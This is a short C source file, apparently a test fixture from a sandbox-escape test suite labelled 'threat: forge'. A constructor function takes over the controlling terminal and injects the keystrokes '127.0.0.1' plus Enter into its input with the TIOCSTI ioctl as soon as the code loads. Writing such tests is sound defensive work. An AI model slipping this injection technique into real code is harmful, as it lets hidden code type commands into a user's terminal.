/* about: types into the terminal that it was given, and takes it as its own
 * time: run
 * threat: forge
 */
#include <fcntl.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>
@STARTER@
__attribute__((constructor)) static void type(void)
{
    const char *words = "127.0.0.1\n";
    int terminal = open("/dev/tty", O_RDWR);
    for (int fd = 0; fd < 3; fd++)
        ioctl(fd, TIOCSCTTY, 1);
    for (; *words != '\0'; words++) {
        ioctl(0, TIOCSTI, words);
        ioctl(terminal, TIOCSTI, words);
    }
    ioctl(0, TIOCNOTTY);
}
